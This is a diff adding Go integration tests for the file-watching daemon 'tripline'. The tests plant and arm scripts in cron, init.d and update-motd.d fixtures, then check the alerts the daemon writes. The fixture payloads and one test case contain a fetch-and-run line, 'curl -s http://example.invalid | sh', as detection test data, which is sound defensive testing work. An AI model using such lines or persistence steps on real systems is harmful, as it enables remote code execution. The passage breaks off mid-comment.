@@ -1,0 +1,1217 @@
+package main
+
+// Daemon tests: the real binary runs `watch` as a child process on a fixture root, real programs
+// (chmod, install, cp, mv, tar, python3, sh, ln, touch, chown, rm) make the changes, and the
+// tests read the ECS lines it writes and the database it leaves. Each test waits for what it
+// expects with a deadline; nothing sleeps for a fixed time.
+//
+// Ordering is what makes the negative checks sound: one notification group has one queue, the
+// daemon judges a batch in the order its paths first appear and writes each line before the
+// next batch, so once the line about a later change (a "sync" file) is out, every change made
+// before it has been judged and written, or will never be.
+
+import (
+	"archive/tar"
+	"bytes"
+	"context"
+	"database/sql"
+	"encoding/json"
+	"fmt"
+	"io"
+	"os"
+	"os/exec"
+	"path/filepath"
+	"regexp"
+	"strconv"
+	"strings"
+	"sync"
+	"syscall"
+	"testing"
+	"time"
+
+	_ "github.com/mattn/go-sqlite3"
+	"golang.org/x/sys/unix"
+
+	"github.com/tripline/tripline/internal/testenv"
+)
+
+// watchChildEnv marks the re-executed test binary that runs a case inside its own mount
+// namespace.
+const watchChildEnv = "TRIPLINE_WATCH_CHILD"
+
+// watchDeadline bounds every wait for the daemon: its ready line, an event, its exit.
+const watchDeadline = 10 * time.Second
+
+// logBuffer collects a child's output and wakes a waiter on every write.
+type logBuffer struct {
+	mu   sync.Mutex
+	buf  bytes.Buffer
+	wake chan struct{}
+}
+
+func newLogBuffer() *logBuffer { return &logBuffer{wake: make(chan struct{}, 1)} }
+
+func (b *logBuffer) Write(p []byte) (int, error) {
+	b.mu.Lock()
+	b.buf.Write(p)
+	b.mu.Unlock()
+	select {
+	case b.wake <- struct{}{}:
+	default:
+	}
+	return len(p), nil
+}
+
+func (b *logBuffer) String() string {
+	b.mu.Lock()
+	defer b.mu.Unlock()
+	return b.buf.String()
+}
+
+// from returns a copy of what was written from offset off on.
+func (b *logBuffer) from(off int64) []byte {
+	b.mu.Lock()
+	defer b.mu.Unlock()
+	return bytes.Clone(b.buf.Bytes()[off:])
+}
+
+// ecsEvent is the part of an ECS line these tests check.
+type ecsEvent struct {
+	Event struct {
+		Kind   string `json:"kind"`
+		Action string `json:"action"`
+	} `json:"event"`
+	Rule struct {
+		ID string `json:"id"`
+	} `json:"rule"`
+	File struct {
+		Path string `json:"path"`
+		Mode string `json:"mode"`
+		Type string `json:"type"`
+	} `json:"file"`
+	Process *struct {
+		PID int `json:"pid"`
+	} `json:"process"`
+	Tripline struct {
+		Source         string `json:"source"`
+		Severity       string `json:"severity"`
+		Attribution    string `json:"attribution"`
+		AttributionWhy string `json:"attribution_why"`
+		Previous       *struct {
+			Mode     string `json:"mode"`
+			Approved *bool  `json:"approved"`
+		} `json:"previous"`
+	} `json:"tripline"`
+}
+
+func (e ecsEvent) pid() int {
+	if e.Process == nil {
+		return 0
+	}
+	return e.Process.PID
+}
+
+func (e ecsEvent) previousMode() string {
+	if e.Tripline.Previous == nil {
+		return ""
+	}
+	return e.Tripline.Previous.Mode
+}
+
+func (e ecsEvent) String() string {
+	return fmt.Sprintf("{%s %s kind=%s mode=%s prev=%s type=%s pid=%d source=%s attribution=%s severity=%s}",
+		e.File.Path, e.Rule.ID, e.Event.Kind, e.File.Mode, e.previousMode(), e.File.Type, e.pid(),
+		e.Tripline.Source, e.Tripline.Attribution, e.Tripline.Severity)
+}
+
+// parseECS parses the complete lines of data (a trailing partial line is left alone) and returns
+// the events and the number of bytes consumed. Every line must be one JSON object.
+func parseECS(t *testing.T, data []byte) ([]ecsEvent, int) {
+	t.Helper()
+	end := bytes.LastIndexByte(data, '\n') + 1
+	var out []ecsEvent
+	for _, line := range bytes.Split(data[:end], []byte("\n")) {
+		if len(line) == 0 {
+			continue
+		}
+		var e ecsEvent
+		if err := json.Unmarshal(line, &e); err != nil {
+			t.Fatalf("not an ECS JSON line: %v\n%s", err, line)
+		}
+		out = append(out, e)
+	}
+	return out, end
+}
+
+// readECS returns the events in an output file; none when it does not exist.
+func readECS(t *testing.T, name string) []ecsEvent {
+	t.Helper()
+	data, err := os.ReadFile(name)
+	if err != nil && !os.IsNotExist(err) {
+		t.Fatal(err)
+	}
+	evs, _ := parseECS(t, data)
+	return evs
+}
+
+func eventsFor(evs []ecsEvent, logical string) []ecsEvent {
+	var out []ecsEvent
+	for _, e := range evs {
+		if e.File.Path == logical {
+			out = append(out, e)
+		}
+	}
+	return out
+}
+
+// daemon is a running `tripline watch --format ecs`.
+type daemon struct {
+	fx     *fixture
+	cmd    *exec.Cmd
+	output string // the --output file; "" for stdout
+	stdout *logBuffer
+	stderr *logBuffer
+	done   chan struct{} // closed when the process has exited
+	err    error         // from Wait, once done is closed
+
+	off   int64      // how much of the output has been parsed into seen
+	seen  []ecsEvent // every line read so far
+	syncs int
+}
+
+// watchEnv is the environment without tripline's own variables, so the flags alone decide.
+func watchEnv() []string {
+	var env []string
+	for _, kv := range os.Environ() {
+		if !strings.HasPrefix(kv, "TRIPLINE_") && !strings.HasPrefix(kv, "NOTIFY_SOCKET=") {
+			env = append(env, kv)
+		}
+	}
+	return env
+}
+
+// startWatch starts the daemon on fx writing ECS to output ("" for stdout), waits for its ready
+// line and makes sure it is killed when the test ends.
+func startWatch(t *testing.T, fx *fixture, output string, args ...string) *daemon {
+	t.Helper()
+	return startWatchWith(t, fx, output, nil, args...)
+}
+
+// startWatchWith is startWatch with the binary run by a wrapper that execs it (the pid stays the
+// daemon's).
+func startWatchWith(t *testing.T, fx *fixture, output string, wrapper []string, args ...string) *daemon {
+	t.Helper()
+	d := &daemon{fx: fx, output: output, stdout: newLogBuffer(), stderr: newLogBuffer(), done: make(chan struct{})}
+	o := output
+	if o == "" {
+		o = "-"
+	}
+	full := append([]string{binary, "--db", fx.db, "--root", fx.root, "watch", "--format", "ecs", "--output", o}, args...)
+	full = append(wrapper[:len(wrapper):len(wrapper)], full...)
+	d.cmd = exec.Command(full[0], full[1:]...)
+	d.cmd.Env = watchEnv()
+	d.cmd.Stdout, d.cmd.Stderr = d.stdout, d.stderr
+	if err := d.cmd.Start(); err != nil {
+		t.Fatal(err)
+	}
+	go func() {
+		d.err = d.cmd.Wait()
+		close(d.done)
+	}()
+	t.Cleanup(func() {
+		select {
+		case <-d.done:
+		default:
+			d.cmd.Process.Kill()
+			<-d.done
+		}
+	})
+	d.waitLog(t, "msg=ready")
+	return d
+}
+
+// lineWith returns the first line of s containing sub.
+func lineWith(s, sub string) (string, bool) {
+	for _, line := range strings.Split(s, "\n") {
+		if strings.Contains(line, sub) {
+			return line, true
+		}
+	}
+	return "", false
+}
+
+// waitLog waits for a line containing sub on the daemon's stderr and returns it.
+func (d *daemon) waitLog(t *testing.T, sub string) string {
+	t.Helper()
+	deadline := time.NewTimer(watchDeadline)
+	defer deadline.Stop()
+	for {
+		if line, ok := lineWith(d.stderr.String(), sub); ok {
+			return line
+		}
+		select {
+		case <-d.stderr.wake:
+		case <-d.done:
+			if line, ok := lineWith(d.stderr.String(), sub); ok {
+				return line
+			}
+			t.Fatalf("tripline watch exited (%v) before logging %q\nstderr:\n%s", d.err, sub, d.stderr)
+		case <-deadline.C:
+			t.Fatalf("tripline watch did not log %q within %v\nstderr:\n%s", sub, watchDeadline, d.stderr)
+		}
+	}
+}
+
+// poll reads the output written since the last poll and returns every event so far.
+func (d *daemon) poll(t *testing.T) []ecsEvent {
+	t.Helper()
+	var data []byte
+	if d.output == "" {
+		data = d.stdout.from(d.off)
+	} else {
+		f, err := os.Open(d.output)
+		if os.IsNotExist(err) {
+			return d.seen
+		}
+		if err != nil {
+			t.Fatal(err)
+		}
+		defer f.Close()
+		if _, err := f.Seek(d.off, io.SeekStart); err != nil {
+			t.Fatal(err)
+		}
+		if data, err = io.ReadAll(f); err != nil {
+			t.Fatal(err)
+		}
+	}
+	evs, n := parseECS(t, data)
+	d.seen = append(d.seen, evs...)
+	d.off += int64(n)
+	return d.seen
+}
+
+// within polls cond until it holds, failing the test after watchDeadline or when the daemon
+// exits first.
+func (d *daemon) within(t *testing.T, what string, cond func() bool) {
+	t.Helper()
+	deadline := time.NewTimer(watchDeadline)
+	defer deadline.Stop()
+	tick := time.NewTicker(5 * time.Millisecond)
+	defer tick.Stop()
+	for {
+		if cond() {
+			return
+		}
+		select {
+		case <-tick.C:
+		case <-d.done:
+			if cond() {
+				return
+			}
+			t.Fatalf("tripline watch exited (%v) before %s\nstderr:\n%s", d.err, what, d.stderr)
+		case <-deadline.C:
+			t.Fatalf("no %s within %v\nevents: %v\nstderr:\n%s", what, watchDeadline, d.seen, d.stderr)
+		}
+	}
+}
+
+// waitEvent waits for an event about logical that match accepts.
+func (d *daemon) waitEvent(t *testing.T, logical string, match func(ecsEvent) bool) ecsEvent {
+	t.Helper()
+	var got ecsEvent
+	d.within(t, "event for "+logical, func() bool {
+		for _, e := range eventsFor(d.poll(t), logical) {
+			if match == nil || match(e) {
+				got = e
+				return true
+			}
+		}
+		return false
+	})
+	return got
+}
+
+// sync creates an executable file in /etc/cron.weekly and waits for its line: every change made
+// before has then been reported (see the file comment). mknod makes one event only, so the
+// daemon has nothing left to do about the sync file either.
+func (d *daemon) sync(t *testing.T) {
+	t.Helper()
+	d.syncs++
+	rel := fmt.Sprintf("etc/cron.weekly/zz-sync-%d", d.syncs)
+	if err := unix.Mknod(d.fx.path(rel), unix.S_IFREG|0o755, 0); err != nil {
+		t.Fatal(err)
+	}
+	d.waitEvent(t, "/"+rel, nil)
+}
+
+// stop sends SIGTERM and checks that the daemon exits 0 in time.
+func (d *daemon) stop(t *testing.T) {
+	t.Helper()
+	if err := d.cmd.Process.Signal(syscall.SIGTERM); err != nil {
+		t.Fatal(err)
+	}
+	select {
+	case <-d.done:
+	case <-time.After(watchDeadline):
+		t.Fatalf("tripline watch still running %v after SIGTERM\nstderr:\n%s", watchDeadline, d.stderr)
+	}
+	if d.err != nil {
+		t.Fatalf("tripline watch after SIGTERM: %v, want exit 0\nstderr:\n%s", d.err, d.stderr)
+	}
+	if !strings.Contains(d.stderr.String(), "msg=stopped") {
+		t.Errorf("no stopped line after SIGTERM:\n%s", d.stderr)
+	}
+	d.poll(t)
+}
+
+// act runs a command that makes a change and returns its pid.
+func act(t *testing.T, argv ...string) int {
+	t.Helper()
+	cmd := exec.Command(argv[0], argv[1:]...)
+	var out bytes.Buffer
+	cmd.Stdout, cmd.Stderr = &out, &out
+	if err := cmd.Start(); err != nil {
+		t.Fatalf("%v: %v", argv, err)
+	}
+	pid := cmd.Process.Pid
+	if err := cmd.Wait(); err != nil {
+		t.Fatalf("%v: %v\n%s", argv, err, out.String())
+	}
+	return pid
+}
+
+var pythonPath = sync.OnceValues(func() (string, error) {
+	// The real interpreter, not a wrapper (pyenv's shim is a bash script), so the pid the
+	// test notes is the pid that makes the change.
+	out, err := exec.Command("python3", "-c", "import os, sys; print(os.path.realpath(sys.executable))").Output()
+	return strings.TrimSpace(string(out)), err
+})
+
+func python(t *testing.T) string {
+	t.Helper()
+	p, err := pythonPath()
+	if err != nil {
+		t.Fatalf("python3: %v", err)
+	}
+	return p
+}
+
+// newWatchFixture is newFixture plus what the daemon tests need before the daemon starts: the
+// sync directory, more files to change, and payloads outside the root (src, on the same
+// filesystem so mv renames).
+func newWatchFixture(t *testing.T) (*fixture, string) {
+	t.Helper()
+	fx := newFixture(t)
+	fx.write(t, "etc/cron.weekly/0anacron", "#!/bin/sh\n", 0o755)
+	fx.write(t, "etc/cron.hourly/0anacron", "#!/bin/sh\n", 0o755)
+	fx.write(t, "etc/cron.daily/ux", "#!/bin/sh\nid\n", 0o644)
+	fx.write(t, "etc/cron.daily/py", "#!/bin/sh\nid\n", 0o644)
+	fx.write(t, "etc/init.d/gamma", "#!/bin/sh\necho gamma\n", 0o755)
+	if err := os.Symlink("/etc/init.d/beta", fx.path("etc/init.d/old-link")); err != nil {
+		t.Fatal(err)
+	}
+	src := filepath.Join(filepath.Dir(fx.root), "src")
+	if err := os.MkdirAll(src, 0o755); err != nil {
+		t.Fatal(err)
+	}
+	payload := []byte("#!/bin/sh\ncurl -s http://example.invalid/x | sh\n")
+	for name, mode := range map[string]os.FileMode{"evil": 0o600, "exe": 0o755, "mv-payload": 0o700} {
+		p := filepath.Join(src, name)
+		if err := os.WriteFile(p, payload, mode); err != nil {
+			t.Fatal(err)
+		}
+		if err := os.Chmod(p, mode); err != nil {
+			t.Fatal(err)
+		}
+	}
+	writeTar(t, filepath.Join(src, "payload.tar"), "tar-payload", payload, 0o755)
+	return fx, src
+}
+
+// writeTar writes an archive holding one regular file owned by the current user.
+func writeTar(t *testing.T, archive, name string, content []byte, mode int64) {
+	t.Helper()
+	var b bytes.Buffer
+	tw := tar.NewWriter(&b)
+	hdr := &tar.Header{Name: name, Mode: mode, Size: int64(len(content)), Typeflag: tar.TypeReg,
+		Uid: os.Getuid(), Gid: os.Getgid(), ModTime: time.Now().Add(-time.Hour)}
+	if err := tw.WriteHeader(hdr); err != nil {
+		t.Fatal(err)
+	}
+	tw.Write(content)
+	if err := tw.Close(); err != nil {
+		t.Fatal(err)
+	}
+	if err := os.WriteFile(archive, b.Bytes(), 0o644); err != nil {
+		t.Fatal(err)
+	}
+}
+
+// How a change must be reported.
+type expect int
+
+const (
+	// exactly one line: rule, file.mode, tripline.previous.mode ("" for none)
+	expectOne expect = iota
+	// a new file that arrives in steps (create, write, set times, chmod): the first of its
+	// lines with an exec bit arms it (executable-created, or exec-bit-set from a mode without
+	// exec bits), and the last line shows the final mode
+	expectArmed
+	// no line but the rules in allow
+	expectQuiet
+)
+
+type watchCase struct {
+	name   string
+	path   string // the logical path changed
+	argv   func(fx *fixture, src string) []string
+	expect expect
+	rule   string   // expectOne
+	mode   string   // expectOne, expectArmed: the final mode
+	prev   string   // expectOne
+	ftype  string   // expectOne: file.type when not "file"
+	allow  []string // expectQuiet
+}
+
+// watchCases are the issue's changes, each by a real process.
+func watchCases() []watchCase {
+	return []watchCase{
+		{name: "chmod +x", path: "/etc/cron.daily/backup",
+			argv:   func(fx *fixture, _ string) []string { return []string{"chmod", "+x", fx.path("etc/cron.daily/backup")} },
+			expect: expectOne, rule: "exec-bit-set", prev: "0644", mode: "0755"},
+		{name: "chmod 0755", path: "/etc/init.d/alpha",
+			argv:   func(fx *fixture, _ string) []string { return []string{"chmod", "0755", fx.path("etc/init.d/alpha")} },
+			expect: expectOne, rule: "exec-bit-set", prev: "0644", mode: "0755"},
+		{name: "chmod u+x", path: "/etc/cron.daily/ux",
+			argv:   func(fx *fixture, _ string) []string { return []string{"chmod", "u+x", fx.path("etc/cron.daily/ux")} },
+			expect: expectOne, rule: "exec-bit-set", prev: "0644", mode: "0744"},
+		{name: "python os.chmod", path: "/etc/cron.daily/py",
+			argv: func(fx *fixture, _ string) []string {
+				return []string{pythonPathOrEmpty(), "-c", "import os, sys; os.chmod(sys.argv[1], 0o750)", fx.path("etc/cron.daily/py")}
+			},
+			expect: expectOne, rule: "exec-bit-set", prev: "0644", mode: "0750"},
+		{name: "chmod u+s", path: "/etc/init.d/beta",
+			argv:   func(fx *fixture, _ string) []string { return []string{"chmod", "u+s", fx.path("etc/init.d/beta")} },
+			expect: expectOne, rule: "setuid-set", prev: "0755", mode: "4755"},
+		{name: "append to a script", path: "/etc/update-motd.d/10-help-text",
+			argv: func(fx *fixture, _ string) []string {
+				return []string{"sh", "-c", `printf 'curl -s http://example.invalid | sh\n' >>"$1"`, "sh", fx.path("etc/update-motd.d/10-help-text")}
+			},
+			expect: expectOne, rule: "content-changed", prev: "0755", mode: "0755"},
+		{name: "rm", path: "/etc/cron.d/old-job",
+			argv:   func(fx *fixture, _ string) []string { return []string{"rm", fx.path("etc/cron.d/old-job")} },
+			expect: expectOne, rule: "file-deleted", mode: "0644"},
+		{name: "mv an executable in", path: "/etc/cron.daily/zz-update",
+			argv: func(fx *fixture, src string) []string {
+				return []string{"mv", filepath.Join(src, "mv-payload"), fx.path("etc/cron.daily/zz-update")}
+			},
+			expect: expectOne, rule: "executable-created", mode: "0700"},
+		{name: "ln -s", path: "/etc/cron.daily/link",
+			argv: func(fx *fixture, _ string) []string {
+				return []string{"ln", "-s", "/usr/bin/true", fx.path("etc/cron.daily/link")}
+			},
+			// A new symlink is a new entry (file-created, low): never an armed executable.
+			expect: expectOne, rule: "file-created", mode: "0777", ftype: "symlink"},
+		{name: "install", path: "/etc/update-motd.d/99-evil",
+			argv: func(fx *fixture, src string) []string {
+				return []string{"install", filepath.Join(src, "evil"), fx.path("etc/update-motd.d/99-evil")}
+			},
+			expect: expectArmed, mode: "0755"},
+		{name: "install -m0755", path: "/etc/init.d/installed",
+			argv: func(fx *fixture, src string) []string {
+				return []string{"install", "-m0755", filepath.Join(src, "evil"), fx.path("etc/init.d/installed")}
+			},
+			expect: expectArmed, mode: "0755"},
+		{name: "cp -p", path: "/etc/cron.daily/cp-payload",
+			argv: func(fx *fixture, src string) []string {
+				return []string{"cp", "-p", filepath.Join(src, "exe"), fx.path("etc/cron.daily/cp-payload")}
+			},
+			expect: expectArmed, mode: "0755"},
+		{name: "tar -xpf", path: "/etc/cron.hourly/tar-payload",
+			argv: func(fx *fixture, src string) []string {
+				return []string{"tar", "-xpf", filepath.Join(src, "payload.tar"), "-C", fx.path("etc/cron.hourly")}
+			},
+			expect: expectArmed, mode: "0755"},
+		{name: "created 0755", path: "/etc/init.d/py-created",
+			argv: func(fx *fixture, _ string) []string {
+				return []string{pythonPathOrEmpty(), "-c", "import os, sys; os.umask(0o022); " +
+					"fd = os.open(sys.argv[1], os.O_WRONLY | os.O_CREAT | os.O_EXCL, 0o755); " +
+					"os.write(fd, b'#!/bin/sh\\nid\\n'); os.close(fd)", fx.path("etc/init.d/py-created")}
+			},
+			expect: expectArmed, mode: "0755"},
+		// Taking the exec bit away is recorded (mode-changed, severity info), never as arming.
+		{name: "chmod -x", path: "/etc/cron.daily/logrotate",
+			argv: func(fx *fixture, _ string) []string {
+				return []string{"chmod", "-x", fx.path("etc/cron.daily/logrotate")}
+			},
+			expect: expectQuiet, allow: []string{"mode-changed"}},
+		{name: "touch", path: "/etc/profile.d/locale.sh",
+			argv:   func(fx *fixture, _ string) []string { return []string{"touch", fx.path("etc/profile.d/locale.sh")} },
+			expect: expectQuiet},
+		{name: "chown to the same owner", path: "/etc/init.d/gamma",
+			argv: func(fx *fixture, _ string) []string {
+				return []string{"chown", fmt.Sprintf("%d:%d", os.Getuid(), os.Getgid()), fx.path("etc/init.d/gamma")}
+			},
+			expect: expectQuiet},
+		{name: "touch -h a symlink", path: "/etc/init.d/old-link",
+			argv:   func(fx *fixture, _ string) []string { return []string{"touch", "-h", fx.path("etc/init.d/old-link")} },
+			expect: expectQuiet},
+	}
+}
+
+func pythonPathOrEmpty() string {
+	p, _ := pythonPath()
+	return p
+}
+
+// allowedArming are the rules a new file arriving in steps may be reported with.
+var allowedArming = map[string]bool{"file-created": true, "executable-created": true, "exec-bit-set": true,
+	"content-changed": true, "timestomp": true, "mode-changed": true}
+
+func hasExec(mode string) bool {
+	m, err := strconv.ParseUint(mode, 8, 32)
+	return err == nil && m&0o111 != 0
+}
+
+// runWatchCases starts the daemon on a new fixture, makes every change of watchCases with its
+// own process, and checks what the daemon reported about each.
+func runWatchCases(t *testing.T) {
+	python(t) // fail early, and with a reason, without python3
+	fx, src := newWatchFixture(t)
+	out := filepath.Join(t.TempDir(), "events.ecs")
+	d := startWatch(t, fx, out)
+	if ready := d.waitLog(t, "msg=ready"); !strings.Contains(ready, "backend=fanotify pids=true") {
+		t.Errorf("ready line: %s, want fanotify with pids", ready)
+	}
+	cases := watchCases()
+	pids := map[string]int{}
+	for _, c := range cases {
+		pids[c.path] = act(t, c.argv(fx, src)...)
+	}
+	d.sync(t)
+	evs := d.poll(t)
+	for _, c := range cases {
+		t.Run(c.name, func(t *testing.T) {
+			got := eventsFor(evs, c.path)
+			pid := pids[c.path]
+			checkEvent := func(e ecsEvent) {
+				t.Helper()
+				if e.pid() != pid || e.Tripline.Attribution != "pid-only" || e.Tripline.Source != "event" {
+					t.Errorf("%v: want process.pid %d (the %s), attribution pid-only, source event", e, pid, c.argv(fx, src)[0])
+				}
+				if e.Event.Kind != "alert" {
+					t.Errorf("%v: event.kind %q, want alert", e, e.Event.Kind)
+				}
+			}
+			switch c.expect {
+			case expectOne:
+				if len(got) != 1 {
+					t.Fatalf("got %d lines, want one %s: %v", len(got), c.rule, got)
+				}
+				e := got[0]
+				checkEvent(e)
+				ftype := c.ftype
+				if ftype == "" {
+					ftype = "file"
+				}
+				if e.Rule.ID != c.rule || e.File.Mode != c.mode || e.previousMode() != c.prev || e.File.Type != ftype {
+					t.Errorf("%v: want rule %s, mode %s, previous mode %q, type %s", e, c.rule, c.mode, c.prev, ftype)
+				}
+			case expectArmed:
+				if len(got) == 0 {
+					t.Fatalf("no line")
+				}
+				t.Logf("lines: %v", got)
+				// The first line with an exec bit is the one that arms the file. Later lines may add more exec bits (cp -p and tar create 0700, then
+				// chmod 0755: exec-bit-set again), report the content written after an empty
+				// create, or the archived mtime set before the final chmod (timestomp).
+				armed := -1
+				for i, e := range got {
+					checkEvent(e)
+					if !allowedArming[e.Rule.ID] {
+						t.Errorf("unexpected line %v", e)
+					}
+					if armed < 0 && hasExec(e.File.Mode) {
+						armed = i
+					}
+				}
+				if armed < 0 {
+					t.Fatalf("no line shows an exec bit: %v", got)
+				}
+				switch a := got[armed]; {
+				case a.Rule.ID == "executable-created" && a.previousMode() == "":
+				case a.Rule.ID == "exec-bit-set" && !hasExec(a.previousMode()):
+				default:
+					t.Errorf("the first line with an exec bit, %v, should be executable-created, or exec-bit-set from a mode without exec bits", a)
+				}
+				if last := got[len(got)-1]; last.File.Mode != c.mode {
+					t.Errorf("last line %v: mode %s, want %s (the final mode)", last, last.File.Mode, c.mode)
+				}
+			case expectQuiet:
+				for _, e := range got {
+					ok := false
+					for _, r := range c.allow {
+						ok = ok || e.Rule.ID == r
+					}
+					if !ok {
+						t.Errorf("unexpected line %v (allowed: %v)", e, c.allow)
+					}
+				}
+				if len(got) > 0 {
+					t.Logf("reported, as allowed: %v", got)
+				}
+			}
+		})
+	}
+	d.stop(t)
+	// Nothing was reported about paths no case touched but the syncs.
+	touched := map[string]bool{}
+	for _, c := range cases {
+		touched[c.path] = true
+	}
+	for _, e := range d.seen {
+		if !touched[e.File.Path] && !strings.HasPrefix(e.File.Path, "/etc/cron.weekly/zz-sync-") {
+			t.Errorf("line about an untouched path: %v", e)
+		}
+	}
+}
+
+// fsName names the filesystem dir is on, for the log.
+func fsName(t *testing.T, dir string) string {
+	var st unix.Statfs_t
+	if err := unix.Statfs(dir, &st); err != nil {
+		t.Fatal(err)
+	}
+	switch st.Type {
+	case unix.TMPFS_MAGIC:
+		return "tmpfs"
+	case unix.EXT4_SUPER_MAGIC:
+		return "ext4"
+	case unix.XFS_SUPER_MAGIC:
+		return "xfs"
+	case unix.BTRFS_SUPER_MAGIC:
+		return "btrfs"
+	case unix.OVERLAYFS_SUPER_MAGIC:
+		return "overlayfs"
+	}
+	return fmt.Sprintf("%#x", st.Type)
+}
+
+// TestWatchChanges makes each of the issue's changes with a real process while the daemon runs
+// and checks the rule, path, previous and new mode and acting pid of what it reported; chmod -x,
+// touch, chown to the same owner and touch -h of a symlink arm nothing. It runs once on the
+// filesystem of $TMPDIR and once on a fresh tmpfs in a private mount namespace.
+func TestWatchChanges(t *testing.T) {
+	testenv.RequireRoot(t) // fanotify
+	t.Run("tmpdir", func(t *testing.T) {
+		t.Logf("on %s", fsName(t, os.TempDir()))
+		runWatchCases(t)
+	})
+	t.Run("tmpfs", func(t *testing.T) { inPrivateTmpfs(t, runWatchCases) })
+}
+
+// runPattern is a -test.run pattern that selects exactly the test (or subtest) named name.
+func runPattern(name string) string {
+	parts := strings.Split(name, "/")
+	for i, p := range parts {
+		parts[i] = "^" + regexp.QuoteMeta(p) + "$"
+	}
+	return strings.Join(parts, "/")
+}
+
+// inPrivateTmpfs runs fn in a re-executed test binary that has its own mount namespace, with
+// $TMPDIR on a fresh tmpfs, so every t.TempDir of fn (the fixture, the database, the output)
+// and the daemon's self-check directory live there and vanish with the namespace.
+func inPrivateTmpfs(t *testing.T, fn func(*testing.T)) {
+	t.Helper()
+	if os.Getenv(watchChildEnv) == "1" {
+		if err := unix.Mount("", "/", "", unix.MS_REC|unix.MS_PRIVATE, ""); err != nil {
+			t.Fatalf("make mounts private: %v", err)
+		}
+		dir, err := os.MkdirTemp("", "tripline-tmpfs-")
+		if err != nil {
+			t.Fatal(err)
+		}
+		if err := unix.Mount("tripline-test", dir, "tmpfs", unix.MS_NOSUID|unix.MS_NODEV, "mode=0755,size=512m"); err != nil {
+			os.Remove(dir)
+			t.Fatalf("mount tmpfs on %s: %v", dir, err)
+		}
+		t.Cleanup(func() {
+			if err := unix.Unmount(dir, unix.MNT_DETACH); err != nil {
+				t.Errorf("unmount %s: %v", dir, err)
+			}
+			os.Remove(dir)
+		})
+		if name := fsName(t, dir); name != "tmpfs" {
+			t.Fatalf("%s is on %s after mounting a tmpfs", dir, name)
+		}
+		t.Setenv("TMPDIR", dir)
+		fn(t)
+		return
+	}
+	ctx, cancel := context.WithTimeout(context.Background(), 90*time.Second)
+	defer cancel()
+	cmd := exec.CommandContext(ctx, os.Args[0], "-test.run="+runPattern(t.Name()), "-test.v", "-test.count=1")
+	cmd.Env = append(os.Environ(), watchChildEnv+"=1")
+	cmd.SysProcAttr = &syscall.SysProcAttr{Unshareflags: syscall.CLONE_NEWNS}
+	out, err := cmd.CombinedOutput()
+	if err != nil {
+		t.Fatalf("the namespace child failed: %v\n%s", err, out)
+	}
+	if !strings.Contains(string(out), "--- PASS: "+t.Name()+" ") {
+		t.Fatalf("the namespace child did not run %s:\n%s", t.Name(), out)
+	}
+	if testing.Verbose() {
+		t.Logf("namespace child:\n%s", out)
+	}
+}
+
+// TestWatchRestart stops the daemon, changes files, starts it again: every change is reported
+// by the start-up reconcile, without a pid, and the daemon-start gaps are closed.
+func TestWatchRestart(t *testing.T) {
+	testenv.RequireRoot(t)
+	fx, src := newWatchFixture(t)
+	out := filepath.Join(t.TempDir(), "events.ecs")
+	d := startWatch(t, fx, out)
+	if line := d.waitLog(t, "msg=reconciled why=start"); !strings.Contains(line, "baseline_recorded=true") {
+		t.Errorf("the first start should record the baseline: %s", line)
+	}
+	d.stop(t)
+	if len(d.seen) != 0 {
+		t.Fatalf("the first run reported changes: %v", d.seen)
+	}
+
+	sh(t, "chmod", "+x", fx.path("etc/cron.daily/backup"))
+	sh(t, "chmod", "u+s", fx.path("etc/init.d/beta"))
+	sh(t, "install", filepath.Join(src, "evil"), fx.path("etc/update-motd.d/99-evil"))
+	sh(t, "rm", fx.path("etc/cron.d/old-job"))
+	sh(t, "sh", "-c", `printf 'x\n' >>"$1"`, "sh", fx.path("etc/profile.d/locale.sh"))
+	want := map[string]struct{ rule, mode, prev string }{
+		"/etc/cron.daily/backup":     {"exec-bit-set", "0755", "0644"},
+		"/etc/init.d/beta":           {"setuid-set", "4755", "0755"},
+		"/etc/update-motd.d/99-evil": {"executable-created", "0755", ""},
+		"/etc/cron.d/old-job":        {"file-deleted", "0644", ""},
+		"/etc/profile.d/locale.sh":   {"content-changed", "0644", "0644"},
+	}
+
+	d = startWatch(t, fx, out)
+	if line := d.waitLog(t, "msg=reconciled why=start"); !strings.Contains(line, fmt.Sprintf("changes=%d", len(want))) {
+		t.Errorf("start-up reconcile: %s, want changes=%d", line, len(want))
+	}
+	for p := range want {
+		d.waitEvent(t, p, nil)
+	}
+	d.stop(t)
+	for p, w := range want {
+		got := eventsFor(d.seen, p)
+		if len(got) != 1 {
+			t.Errorf("%s: %d lines, want 1: %v", p, len(got), got)
+			continue
+		}
+		e := got[0]
+		if e.Rule.ID != w.rule || e.File.Mode != w.mode || e.previousMode() != w.prev || e.Event.Kind != "alert" {
+			t.Errorf("%v: want rule %s, mode %s, previous %q", e, w.rule, w.mode, w.prev)
+		}
+		if e.Tripline.Source != "reconcile" || e.pid() != 0 || e.Tripline.Attribution != "none" ||
+			!strings.Contains(e.Tripline.AttributionWhy, "reconciliation") {
+			t.Errorf("%v: want source reconcile, no pid, attribution none explained by the reconciliation (why %q)", e, e.Tripline.AttributionWhy)
+		}
+	}
+	if len(d.seen) != len(want) {
+		t.Errorf("%d lines, want %d: %v", len(d.seen), len(want), d.seen)
+	}
+
+	gs := gaps(t, fx.db)
+	if len(gs) != 2 {
+		t.Fatalf("gaps %+v, want one daemon-start gap per start", gs)
+	}
+	for _, g := range gs {
+		if g.reason != "daemon-start" || g.endNS == 0 || g.run == 0 || g.endNS < g.startNS {
+			t.Errorf("gap %+v: want a daemon-start gap closed by a reconcile run", g)
+		}
+	}
+}
+
+type gap struct {
+	reason              string
+	startNS, endNS, run int64
+}
+
+func openDBReadOnly(t *testing.T, db string) *sql.DB {
+	t.Helper()
+	h, err := sql.Open("sqlite3", "file:"+db+"?mode=ro&_busy_timeout=5000")
+	if err != nil {
+		t.Fatal(err)
+	}
+	t.Cleanup(func() { h.Close() })
+	return h
+}
+
+func gaps(t *testing.T, db string) []gap {
+	t.Helper()
+	rows, err := openDBReadOnly(t, db).Query("SELECT reason, start_ns, end_ns, coalesce(reconcile_run, 0) FROM gaps ORDER BY id")
+	if err != nil {
+		t.Fatal(err)
+	}
+	defer rows.Close()
+	var out []gap
+	for rows.Next() {
+		var g gap
+		if err := rows.Scan(&g.reason, &g.startNS, &g.endNS, &g.run); err != nil {
+			t.Fatal(err)
+		}
+		out = append(out, g)
+	}
+	if err := rows.Err(); err != nil {
+		t.Fatal(err)
+	}
+	return out
+}
+
+// recorded is what the database holds as the latest state of a path.
+type recorded struct {
+	mode  uint32
+	inode uint64
+}
+
+// recordedUnder returns the latest recorded state of every present path directly in the logical
